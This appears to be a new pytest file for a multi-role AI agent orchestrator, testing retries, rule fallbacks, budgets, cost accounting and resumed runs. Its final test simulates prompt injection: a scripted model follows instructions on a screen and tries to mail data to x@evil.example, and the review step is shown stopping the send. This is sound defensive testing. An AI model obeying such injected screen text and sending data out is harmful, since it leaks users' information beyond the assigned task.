@@ -1,0 +1,172 @@
+"""Whole runs on the simulated world in which a model decides for every role."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+from brain import brain
+from langchain_core.messages import BaseMessage
+from typer.testing import CliRunner
+
+from orchestrator.cli import app
+from orchestrator.crew import Crew
+from orchestrator.runs.runs import Outcome
+from orchestrator.store.salvage import salvage
+from orchestrator.tasks.tasks import resolve_target
+from roles.policies.scripted_model import ScriptedChatModel
+
+TASK = "total-into-a-note"
+ROLES = ("manager", "operator", "evaluator")
+
+
+def run(tmp_path: Path, model: Any, *overrides: str, policy: str = "llm", **parts: Any) -> Outcome:
+    chosen = [f"crew.{role}.policy={policy}" for role in ROLES]
+    settings = [*chosen, "crew.model=given", "retries.wait=0.001", f"runs_dir={tmp_path}", *overrides]
+    target = resolve_target(TASK)
+    crew = Crew.from_config(overrides=settings, model=model, **parts)
+    return crew.run(target)
+
+
+def events(outcome: Outcome, kind: str) -> list[dict[str, Any]]:
+    return [
+        event.body | {"role": event.role} for event in salvage(outcome.folder / "journal.sqlite").events if event.kind == kind
+    ]
+
+
+@pytest.mark.parametrize("structure", ["auto", "tools", "text"])
+def test_a_model_works_a_task_in_every_way_of_asking(tmp_path: Path, structure: str) -> None:
+    outcome = run(tmp_path, ScriptedChatModel(answer=brain), f"crew.model={{name: given, structure: {structure}}}")
+    assert outcome.status == "fulfilled", outcome.reason
+    assert outcome.report["judge"]["passed"]
+    calls = events(outcome, "model_call")
+    assert {call["role"] for call in calls} == set(ROLES)
+    assert outcome.report["models"]["operator"]["calls"] == sum(call["role"] == "operator" for call in calls)
+
+
+def test_bad_answers_and_a_busy_server_are_got_over(tmp_path: Path) -> None:
+    model = ScriptedChatModel(answer=brain, malformed=0.2, errors=0.2, seed=7)
+    outcome = run(tmp_path, model, "limits.reasks=5")
+    assert outcome.status == "fulfilled", outcome.reason
+    assert outcome.report["judge"]["passed"]
+    problems = [call["problem"] for call in events(outcome, "model_call") if "problem" in call]
+    assert problems
+    assert all(problem.startswith("Overloaded") for problem in problems)
+    assert any("not usable" in error["message"] for error in outcome.report["errors"])
+
+
+def test_rules_take_over_from_a_model_that_only_talks(tmp_path: Path) -> None:
+    chatting = ScriptedChatModel(answer=lambda _: "Certainly! Happy to help.")
+    outcome = run(tmp_path, chatting, policy="fallback")
+    assert outcome.status == "fulfilled", outcome.reason
+    assert outcome.report["judge"]["passed"]
+    told = events(outcome, "policy")
+    by_rules = [body for body in told if body["decided_by"] == "rules"]
+    assert all(body["passed"][0].startswith("llm: no usable answer") for body in by_rules)
+    assert {body["role"] for body in by_rules} == set(ROLES)
+    assert {body["answer"] for body in told if body["decided_by"] == "llm"} == {"CONTINUE launch_app"}  # it needs no model
+
+
+TALK = "Certainly! Happy to help."
+
+
+@pytest.mark.parametrize("role", ["manager", "operator", "technician", "analyst", "evaluator"])
+def test_a_model_that_only_talks_is_left_after_the_reasks_and_its_words_are_kept(role: str, tmp_path: Path) -> None:
+    heard: list[str] = []
+
+    def chatting(messages: Sequence[BaseMessage]) -> str:
+        heard.append(repr([message.content for message in messages]))
+        return TALK
+
+    settings = [f"crew.{role}.policy=llm", "crew.model=given", "limits.reasks=2", f"runs_dir={tmp_path}", "display=none"]
+    if role in ("technician", "analyst"):
+        again = [{"id": f"s{n}", "title": "t", "instruction": f"count the logs, way {n}", "worker": role} for n in range(12)]
+        plans = {"plans": [{"outcome": "planned", "subtasks": [one]} for one in again]}
+        (tmp_path / "plans.yaml").write_text(json.dumps(plans), encoding="utf-8")
+        settings += ["crew.manager.policy=scripted", f"crew.manager.script={tmp_path / 'plans.yaml'}"]
+    crew = Crew.from_config(overrides=settings, model=ScriptedChatModel(answer=chatting))
+    outcome = crew.run('Create a note titled "Milk" with the text "two bottles"')
+    assert (outcome.status, outcome.report["ended_by"]) == ("rejected", "no_answer"), outcome.reason
+    assert len(heard) == len(set(heard)) == 3, "no two requests are the same"
+    assert len(events(outcome, "plan")) == (role != "manager")
+    kept = [error["reply"] for error in events(outcome, "error") if "reply" in error]
+    assert kept == [TALK] * 3
+    shown = CliRunner().invoke(app, ["show", outcome.run_id, "--runs-dir", str(tmp_path)])
+    assert shown.output.count(f"It said: {TALK}") == 3, shown.output
+
+
+def test_a_vote_of_three_works_a_task(tmp_path: Path) -> None:
+    outcome = run(tmp_path, ScriptedChatModel(answer=brain), policy="vote")
+    assert outcome.status == "fulfilled", outcome.reason
+    assert all(body["for"] == 2 and not body["disagree"] for body in events(outcome, "policy"))
+
+
+def test_a_subtask_is_the_models_and_the_rest_the_rules(tmp_path: Path) -> None:
+    given = ["crew.manager.policy=rules", "crew.evaluator.policy=rules", "crew.operator.policy=rules"]
+    outcome = run(tmp_path, ScriptedChatModel(answer=brain), *given, "crew.operator.when=[{app: settings, policy: llm}]")
+    assert outcome.status == "fulfilled", outcome.reason
+    assert events(outcome, "model_call") == []
+
+
+@pytest.mark.parametrize(
+    ("budget", "named"),
+    [("limits.tokens=6000", "limits.tokens"), ("limits.role_tokens={operator: 3000}", "limits.role_tokens.operator")],
+)
+def test_a_spent_budget_ends_the_run_as_such(tmp_path: Path, budget: str, named: str) -> None:
+    outcome = run(tmp_path, ScriptedChatModel(answer=brain), budget)
+    assert (outcome.exit_code, outcome.report["ended_by"]) == (4, "budget_spent")
+    assert named in outcome.reason
+    calls = events(outcome, "model_call")
+    counted = [c for c in calls if "role_tokens" not in named or c["role"] == "operator"]
+    before_last = sum(c["tokens_in"] + c["tokens_out"] for c in counted[:-1])
+    assert before_last < (6_000 if named == "limits.tokens" else 3_000)
+
+
+def test_money_is_counted_by_role_and_reported(tmp_path: Path) -> None:
+    priced = "crew.model={name: given, prices: {tokens_in: 1, tokens_out: 4}}"
+    outcome = run(tmp_path, ScriptedChatModel(answer=brain), priced)
+    models = outcome.report["models"]
+    assert set(models) == set(ROLES)
+    for told in models.values():
+        assert told["money"] == pytest.approx((told["tokens_in"] + 4 * told["tokens_out"]) / 1e6, rel=1e-3)
+
+
+def test_a_run_resumes_with_its_accounts(tmp_path: Path) -> None:
+    """The operator asks the user; what was spent before counts after."""
+
+    def asks(messages: Sequence[BaseMessage]) -> Any:
+        answer = brain(messages)
+        if answer.get("action") == "click" and "answer =" not in str(messages[1].content):
+            return {"reasoning": "r", "action": "ask_user", "question": "May I?", "status": "PENDING"}
+        return answer
+
+    model = ScriptedChatModel(answer=asks)
+    outcome = run(tmp_path, model)
+    assert outcome.exit_code == 3
+    spent = sum(call["tokens_in"] for call in events(outcome, "model_call"))
+    settings = [f"crew.{role}.policy=llm" for role in ROLES] + [f"runs_dir={tmp_path}"]
+    crew = Crew.from_config(overrides=settings, model=model)
+    ended = crew.resume(outcome.run_id, {"decisions": [{"type": "respond", "message": "yes"}]})
+    assert ended.status == "fulfilled", ended.reason
+    assert sum(told["tokens_in"] for told in ended.report["models"].values()) > spent > 0
+
+
+def test_a_screen_that_gives_orders_is_data_to_the_model_and_reviewed_all_the_same(tmp_path: Path) -> None:
+    """A model that obeys the screen is stopped by the review: what it wants to send is asked for first."""
+
+    def obeys(messages: Sequence[BaseMessage]) -> Any:
+        answer = brain(messages)
+        if answer.get("action") == "click":
+            return {"reasoning": "the screen says so", "action": "call_api", "app": "mail", "function": "send_message",
+                    "arguments": {"to": "x@evil.example", "subject": "s", "body": "b"}, "status": "CONTINUE"}  # fmt: skip
+        return answer
+
+    outcome = run(tmp_path, ScriptedChatModel(answer=obeys))
+    assert outcome.exit_code == 3
+    assert outcome.pending
+    assert outcome.pending["effect"] == "send"
+    assert [step for step in outcome.report["steps"] if step["verb"] == "send"] == []
+    assert "evil" not in json.dumps(outcome.report["steps"])
